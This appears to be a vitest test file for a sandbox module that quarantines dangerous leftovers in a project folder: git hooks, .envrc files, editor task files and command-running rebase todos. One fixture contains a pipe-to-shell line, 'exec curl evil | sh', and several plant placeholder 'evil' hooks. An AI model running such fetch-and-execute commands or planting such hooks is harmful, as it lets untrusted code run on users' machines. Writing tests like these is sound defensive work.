/** What a session left with a protected name is taken out of the project: whatever its name is made of, and nothing else's. */
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { hookFolders } from '../../main/sandbox/hook-folders.ts';
import { bytesOf, quarantine } from '../../main/sandbox/left-behind.ts';
import { isWatched } from '../../main/sandbox/protected-names.ts';

let folder: string;
let project: string;
let kept: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'gh-left-'));
  project = join(folder, 'projé');
  kept = join(folder, 'kept');
  mkdirSync(project);
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const put = (path: Buffer | string, text = 'x\n') => writeFileSync(path, text);
const take = (...found: string[]) => quarantine(project, found, kept);

it('takes a hook away, and says where it is', () => {
  mkdirSync(join(project, '.git/hooks'), { recursive: true });
  put(join(project, '.git/hooks/pre-commit'), 'evil\n');
  expect(take(bytesOf(join(project, '.git/hooks/pre-commit')))).toEqual([
    {
      path: '.git/hooks/pre-commit',
      why: 'a git hook',
      kept: join(kept, '.git/hooks/pre-commit'),
      problem: null,
    },
  ]);
  expect(readFileSync(join(kept, '.git/hooks/pre-commit'), 'utf8')).toBe('evil\n');
});

it('takes it away also where a name is no UTF-8', () => {
  const odd = `${bytesOf(project)}/a\xff/.git/hooks/pre-commit`;
  const raw = (path: string) => Buffer.from(path, 'latin1');
  mkdirSync(raw(dirname(odd)), { recursive: true });
  put(raw(odd));
  expect(take(odd)).toMatchObject([
    { path: 'a\ufffd/.git/hooks/pre-commit', why: 'a git hook', problem: null },
  ]);
  expect(existsSync(raw(odd))).toBe(false);
  expect(existsSync(raw(`${bytesOf(kept)}/a\xff/.git/hooks/pre-commit`))).toBe(true);
});

it('takes nothing away to which only a link leads', () => {
  const home = join(folder, 'home/.claude');
  mkdirSync(home, { recursive: true });
  put(join(home, 'settings.json'), 'mine\n');
  symlinkSync(join(folder, 'home'), join(project, 'sub'));
  const path = join(project, 'sub/.claude/settings.json');
  expect(take(bytesOf(path))).toMatchObject([{ kept: null, problem: expect.stringContaining('link') }]);
  expect(readFileSync(join(home, 'settings.json'), 'utf8')).toBe('mine\n');
});

it('leaves what lies elsewhere, is gone, or is harmless', () => {
  mkdirSync(join(project, '.git/hooks'), { recursive: true });
  put(join(project, '.git/hooks/pre-commit.sample'));
  put(join(project, '.git/config'), '[core]\n\tbare = false\n');
  put(join(folder, 'outside'));
  const found = ['.git/hooks/pre-commit.sample', '.git/config', 'gone/.envrc', '../outside', ''];
  expect(
    take(...found.map((name) => `${bytesOf(project)}/${name}`), bytesOf(join(folder, 'outside'))),
  ).toEqual([]);
  expect(existsSync(join(folder, 'outside'))).toBe(true);
});

it('takes a rebase away that would run commands, and leaves one that only picks', () => {
  const todo = '.git/rebase-merge/git-rebase-todo';
  const other = `sub/${todo}`;
  for (const [name, text] of [
    [todo, 'pick 1234567 one\nexec curl evil | sh\n'],
    [other, 'pick 1234567 exec x\nfixup 1234568 x\n'],
  ] as const) {
    mkdirSync(dirname(join(project, name)), { recursive: true });
    put(join(project, name), text);
  }
  expect(take(...[todo, other].map((name) => bytesOf(join(project, name))))).toMatchObject([
    { path: todo, why: 'a rebase that runs commands', problem: null },
  ]);
});

it('takes a hook out of a repository without a .git folder, whatever the case of its name', () => {
  const bare = join(project, 'Mirror.GIT');
  for (const name of ['hooks', 'objects', 'refs']) mkdirSync(join(bare, name), { recursive: true });
  put(join(bare, 'HEAD'));
  put(join(bare, 'hooks/pre-receive'));
  expect(take(bytesOf(join(bare, 'hooks/pre-receive')))).toMatchObject([
    { why: 'a git hook', problem: null },
  ]);
});

it('knows names in any case, as folders can be made that do', () => {
  for (const name of ['.GIT/Hooks/pre-commit', 'sub/.VSCode/tasks.json']) {
    mkdirSync(dirname(join(project, name)), { recursive: true });
    put(join(project, name));
    expect(isWatched(name)).toBe(true);
    expect(take(bytesOf(join(project, name)))).toMatchObject([{ path: name, problem: null }]);
  }
});

it('takes hooks away from where git’s settings say that they are', () => {
  const name = 'tools/hooks/pre-commit';
  mkdirSync(dirname(join(project, name)), { recursive: true });
  put(join(project, name));
  expect(take(bytesOf(join(project, name)))).toEqual([]);
  expect(quarantine(project, [bytesOf(join(project, name))], kept, ['tools/hooks'])).toMatchObject([
    { path: name, why: 'a git hook', problem: null },
  ]);
});

it('reads from git’s settings where hooks are', () => {
  const home = join(folder, 'home');
  for (const name of [home, join(project, '.git')]) mkdirSync(name, { recursive: true });
  put(join(home, '.gitconfig'), '[user]\n\tname = x\n[core]\n\thooksPath = .tools/ ; mine\n');
  put(
    join(project, '.git/config'),
    `[core]\n\tbare = false\n\tHooksPath = "${project}/in/hooks"\n[other]\n\thooksPath = no\n[core] hookspath = ../out\n`,
  );
  expect(hookFolders(project, home)).toEqual(['.tools', 'in/hooks']);
});

it('takes the others away where the name of one is as long as names may be', () => {
  // `.envrc` still fits; `objects`, which is looked for beside it, does not.
  let deep = project;
  while (bytesOf(deep).length < 4088)
    deep = join(deep, 'd'.repeat(Math.min(200, 4088 - bytesOf(deep).length - 1)));
  expect(bytesOf(deep).length).toBe(4088);
  mkdirSync(deep, { recursive: true });
  put(join(deep, '.envrc'), 'evil\n');
  put(join(deep, 'HEAD'));
  mkdirSync(join(project, '.git/hooks'), { recursive: true });
  put(join(project, '.git/hooks/pre-commit'), 'evil\n');
  const taken = take(bytesOf(join(deep, '.envrc')), bytesOf(join(project, '.git/hooks/pre-commit')));
  expect(taken).toHaveLength(2);
  expect(taken[0]).toMatchObject({
    why: 'it cannot be looked at',
    kept: null,
    problem: expect.stringContaining('ENAMETOOLONG'),
  });
  expect(taken[1]).toMatchObject({ path: '.git/hooks/pre-commit', problem: null });
});
